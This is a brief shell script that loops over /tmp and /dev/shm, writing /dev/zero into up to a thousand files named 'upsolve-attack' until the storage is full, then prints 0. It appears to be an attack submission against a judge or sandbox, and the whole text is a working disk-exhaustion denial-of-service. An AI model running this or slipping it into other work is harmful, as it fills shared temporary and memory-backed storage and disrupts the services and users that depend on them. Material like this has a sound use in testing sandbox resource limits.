for place in /tmp /dev/shm; do
    for number in {1..1000}; do
        cat /dev/zero > "$place/upsolve-attack-$number" 2> /dev/null || [ -s "$place/upsolve-attack-$number" ] || break
    done
done
echo 0
